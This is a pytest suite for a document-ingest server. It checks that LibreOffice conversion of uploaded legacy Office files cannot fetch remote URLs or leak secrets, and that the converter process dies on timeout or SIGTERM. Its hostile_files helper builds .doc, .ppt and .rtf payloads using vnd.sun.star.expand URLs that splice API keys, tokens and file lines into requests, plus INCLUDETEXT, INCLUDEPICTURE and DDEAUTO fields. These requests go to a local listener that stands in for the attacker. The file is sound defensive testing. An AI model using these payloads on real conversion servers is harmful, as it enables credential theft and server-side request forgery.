"""Legacy Office files written to attack the server that converts them: linked pictures, `vnd.sun.star.expand:`
URLs that expand the server's environment and lines of its files, linked sections, INCLUDEPICTURE/INCLUDETEXT
and DDE fields, in .doc, .ppt and .rtf files uploaded by a tenant. A real HTTP listener on 127.0.0.1 stands for
the attacker's (or an internal) host: it must receive nothing, and no stored text may hold a secret of the
server's environment or a file's line. Then LibreOffice's lifetime: it dies with the extraction worker that was
killed at RAGD_EXTRACT_TIMEOUT_S, and with an ingest stopped by SIGTERM, and leaves no file behind."""

from __future__ import annotations

import http.server
import json
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import ragd

from .conftest import REPO, run_cli, serving
from .test_legacy_office import _gone, _legacy, _running, _stuck_soffice, _word

NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
      'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
      'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
      'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
      'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')


class Listener:
    """An HTTP server on 127.0.0.1 that answers 404 to anything and keeps every request line it saw."""

    def __init__(self) -> None:
        seen: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self) -> None:
                seen.append(f"{self.command} {self.path}")
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = do_OPTIONS = do_POST = do_PUT = do_PROPFIND = _any

            def log_message(self, *args: Any) -> None:
                pass

        self.seen = seen
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def _image(href: str) -> str:
    return (f'<text:p><draw:frame text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"><draw:image '
            f'xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
            "</text:p>")


def _links(base: str, secrets: Path, kind: str) -> list[str]:
    """The addresses a hostile document links to: plain, and expanding an environment variable or a file's
    KEY=value line into the URL (each spelling LibreOffice's expander reads)."""
    expand = f"vnd.sun.star.expand:{base}/{kind}"
    return [f"{base}/{kind}-linked.png", f"{expand}-env/$OPENAI_API_KEY/x.png",
            f"{expand}-braced/${{RAGD_METRICS_TOKEN}}/x.png", f"{expand}-home/$HOME/x.png",
            f"{expand}-file/${{{secrets.as_uri()}:CANARY}}/x.png", f"file://{secrets}"]


def hostile_files(folder: Path, base: str, secrets: Path, secret_text: Path) -> list[Path]:
    """A .doc (linked pictures, expand URLs, linked sections; made from an ODF document by LibreOffice), a .ppt
    (linked and expanded pictures), an .rtf (INCLUDEPICTURE, INCLUDETEXT, DDEAUTO, a linked picture, a table, so
    it goes through LibreOffice) and a .doc made from that RTF."""
    body = "".join(_image(h) for h in _links(base, secrets, "doc"))
    sections = (f'<text:section text:name="s1"><text:section-source xlink:href="{secret_text.as_uri()}" '
                'xlink:type="simple"/><text:p>placeholder one</text:p></text:section>'
                f'<text:section text:name="s2"><text:section-source xlink:href="{base}/doc-section.html" '
                'xlink:type="simple"/><text:p>placeholder two</text:p></text:section>')
    fodt = folder / "linked-word.fodt"
    fodt.write_text(f'<?xml version="1.0" encoding="UTF-8"?><office:document {NS} office:version="1.3" '
                    'office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>'
                    "<text:p>Quarterly travel rules for the hostile test.</text:p>" + body + sections +
                    "</office:text></office:body></office:document>", encoding="utf-8")
    frames = "".join(f'<draw:frame svg:x="{2 + 5 * n}cm" svg:y="6cm" svg:width="4cm" svg:height="4cm"><draw:image '
                     f'xlink:href="{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
                     "</draw:frame>" for n, href in enumerate(_links(base, secrets, "ppt")[:3]))
    fodp = folder / "linked-deck.fodp"
    fodp.write_text(f'<?xml version="1.0" encoding="UTF-8"?><office:document {NS} '
                    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
                    'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">'
                    '<office:body><office:presentation><draw:page draw:name="s1"><draw:frame svg:x="1cm" '
                    'svg:y="1cm" svg:width="20cm" svg:height="3cm"><draw:text-box><text:p>Slide about hostile '
                    "links</text:p></draw:text-box></draw:frame>" + frames +
                    "</draw:page></office:presentation></office:body></office:document>", encoding="utf-8")
    rtf = folder / "linked-fields.rtf"
    pict = (r"{\pict{\*\picprop{\sp{\sn pibName}{\sv " + base + r"/rtf-pib.png}}{\sp{\sn pibFlags}{\sv 10}}}"
            r"\pngblip\picw10\pich10 89504e470d0a1a0a}")
    rtf.write_text("\n".join([
        r"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}",
        r"\pard Fields about hostile links.\par",
        rf'\pard {{\field{{\*\fldinst INCLUDEPICTURE "{base}/rtf-includepicture.png" \\d}}{{\fldrslt }}}}\par',
        rf'\pard {{\field{{\*\fldinst INCLUDEPICTURE "vnd.sun.star.expand:{base}/rtf-expand/$OPENAI_API_KEY/x.png"'
        r' \\d}{\fldrslt }}\par',
        rf'\pard {{\field{{\*\fldinst INCLUDETEXT "{secret_text}"}}{{\fldrslt }}}}\par',
        rf'\pard {{\field{{\*\fldinst INCLUDETEXT "{base}/rtf-includetext.txt"}}{{\fldrslt }}}}\par',
        rf'\pard {{\field{{\*\fldinst DDEAUTO soffice "{secret_text.as_uri()}" "x"}}{{\fldrslt }}}}\par',
        r"\pard " + pict + r"\par",
        r"\trowd\cellx2000\cellx4000 Region\cell Days\cell\row",
        r"\trowd\cellx2000\cellx4000 Germany\cell 98\cell\row",
        r"\pard End of the fields.\par}"]), encoding="ascii")
    return [_legacy(fodt, "doc", folder), _legacy(fodp, "ppt", folder), rtf, _legacy(rtf, "doc", folder / "r")]


def _secrets(folder: Path) -> tuple[Path, Path, list[str]]:
    """A KEY=value file and a text file of the server's, and the canaries they and the environment hold."""
    canaries = {name: f"canary{name.lower()}{uuid.uuid4().hex[:10]}" for name in ("FILE", "TEXT", "ENV", "TOKEN")}
    secrets = folder / "secrets.ini"
    secrets.write_text(f"[Bootstrap]\nCANARY={canaries['FILE']}\n", encoding="ascii")
    secret_text = folder / "secret.txt"
    secret_text.write_text(f"{canaries['TEXT']} is the vault code\n", encoding="ascii")
    return secrets, secret_text, list(canaries.values())


def _stored_text(col: Any) -> str:
    """Every title, block and table cell of every document of the collection."""
    parts = []
    for doc in col.documents(limit=1000):
        parts.append(str(doc))
        parts.append(str(col.blocks(doc["external_id"])))
    return "\n".join(parts)


def test_uploaded_legacy_files_fetch_nothing_and_read_no_secret(cli_env: dict[str, str], name: str,
                                                                 tmp_path: Path, listener: Listener) -> None:
    secrets, secret_text, canaries = _secrets(tmp_path)
    files = hostile_files(tmp_path, listener.base, secrets, secret_text)
    listener.seen.clear()  # (LibreOffice fetched some while it wrote them)
    tenant = "hostile-" + uuid.uuid4().hex[:6]
    env = {**cli_env, "RAGD_RERANKER": "none", "RAGD_SERVE_JOBS": "off", "OPENAI_API_KEY": canaries[2],
           "RAGD_METRICS_TOKEN": canaries[3]}
    key = run_cli(["keys", "create", "--tenant", tenant], env).stdout.strip().splitlines()[-1]
    with serving(env) as server, ragd.connect(server["url"], api_key=key) as remote:
        col = remote.collection(name)
        report = col.ingest(files, duplicates="keep")
        stored = _stored_text(col)
    assert report.count("ingested") == len(files), [(i.source_uri, i.status, i.reason) for i in report.items]
    assert listener.seen == []
    for canary in canaries:
        assert canary not in stored
    for said in ("Quarterly travel rules", "Slide about hostile links", "Fields about hostile links", "Germany"):
        assert said in stored  # the documents were read, through LibreOffice


def test_without_namespaces_the_profile_refuses_links(client: ragd.Ragd, cli_env: dict[str, str], name: str,
                                                      tmp_path: Path, listener: Listener) -> None:
    """Where no network namespace can be made (a container's seccomp profile), the converter's environment and
    profile still keep every link from being followed. (`ragd ingest` in a process of its own: extraction
    workers kept by this test process would not see the variables.)"""
    secrets, secret_text, canaries = _secrets(tmp_path)
    files = hostile_files(tmp_path, listener.base, secrets, secret_text)
    listener.seen.clear()
    tenant = "hostile-" + uuid.uuid4().hex[:6]
    env = {**cli_env, "RAGD_CONVERT_NAMESPACES": "false", "OPENAI_API_KEY": canaries[2],
           "RAGD_METRICS_TOKEN": canaries[3]}
    done = run_cli(["ingest", *map(str, files), "--collection", name, "--tenant", tenant, "--keep-duplicates",
                    "--json"], env, timeout=300)
    report = json.loads(done.stdout)
    assert report["counts"]["ingested"] == len(files), done.stdout + done.stderr
    assert listener.seen == []
    stored = _stored_text(client.collection(name, tenant=tenant))
    for canary in canaries:
        assert canary not in stored
    assert "Quarterly travel rules" in stored and "Germany" in stored


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("namespaces", ["auto", "false"])
def test_libreoffice_dies_with_its_worker_and_leaves_no_file(cli_env: dict[str, str], name: str, tmp_path: Path,
                                                             namespaces: str) -> None:
    """An extraction worker killed at RAGD_EXTRACT_TIMEOUT_S takes LibreOffice (and what it started) with it, and
    the tenant's file is removed, with or without a PID namespace."""
    token = f"{uuid.uuid4().int % 10**12:012d}"  # (sleep takes it as a fraction of a second)
    legacy = _legacy(_word(tmp_path), "doc", tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = {**cli_env, "PATH": f"{_stuck_soffice(tmp_path, token)}:{os.environ['PATH']}", "TMPDIR": str(scratch),
           "RAGD_EXTRACT_TIMEOUT_S": "3", "RAGD_CONVERT_TIMEOUT_S": "200", "RAGD_CONVERT_NAMESPACES": namespaces}
    done = run_cli(["ingest", str(legacy), "--collection", name, "--json"], env, timeout=120)
    assert "timeout" in done.stdout + done.stderr, done.stdout + done.stderr
    assert _gone(token), _running(token)
    assert not list(scratch.glob("ragd-convert-*"))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_an_ingest_stopped_with_sigterm_stops_libreoffice(cli_env: dict[str, str], name: str, tmp_path: Path) -> None:
    token = f"{uuid.uuid4().int % 10**12:012d}"  # (sleep takes it as a fraction of a second)
    legacy = _legacy(_word(tmp_path), "doc", tmp_path)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAGD_")} | cli_env | {
        "PATH": f"{_stuck_soffice(tmp_path, token)}:{os.environ['PATH']}", "TMPDIR": str(scratch),
        "RAGD_EXTRACT_TIMEOUT_S": "200", "RAGD_CONVERT_TIMEOUT_S": "200"}
    proc = subprocess.Popen([sys.executable, "-m", "ragd.cli", "ingest", str(legacy), "--collection", name],
                            env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while len(_running(token)) < 2:
            assert time.monotonic() < deadline and proc.poll() is None, "the stand-in LibreOffice never started"
            time.sleep(0.1)
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        assert _gone(token), _running(token)
        deadline = time.monotonic() + 10
        while list(scratch.glob("ragd-convert-*")) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not list(scratch.glob("ragd-convert-*"))
    finally:
        if proc.poll() is None:
            proc.kill()
        for pid in _running(token):
            os.kill(pid, signal.SIGKILL)

